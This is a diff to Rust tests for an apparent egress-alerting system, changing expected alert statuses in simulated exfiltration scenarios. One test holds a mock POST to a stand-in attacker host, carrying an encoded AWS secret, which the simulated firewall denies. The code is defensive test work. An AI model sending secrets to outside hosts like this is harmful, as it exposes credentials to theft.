@@ -355,7 +355,7 @@ fn a_refused_exfiltration() {
     scene.firewall("deny", "POST", "https://attacker-logger.com/collect?data=QVdTX1NFQ1JFVA");
     let alert = scene.alert("egress.denied_post", "open", "high");
     assert!(alert["reason"].as_str().unwrap().contains("was refused"), "{alert}");
-    scene.end("A refused exfiltration", &[["egress.denied_post", "high", "open"], ["file.unusual", "medium", "open"]]);
+    scene.end("A refused exfiltration", &[["egress.denied_post", "high", "open"], ["file.unusual", "medium", "updated"]]);
 }
 
 #[test]
@@ -397,7 +397,7 @@ fn a_slow_exfiltration() {
         meanwhile(1, || scene.firewall("allow", "GET", "https://packages.acme.example/npm/left-pad"));
     }
     scene.alert("egress.slow_post", "open", "high");
-    scene.end("A slow exfiltration", &[["egress.slow_post", "high", "open"], ["file.unusual", "medium", "open"]]);
+    scene.end("A slow exfiltration", &[["egress.slow_post", "high", "open"], ["file.unusual", "medium", "updated"]]);
 }
 
 #[test]
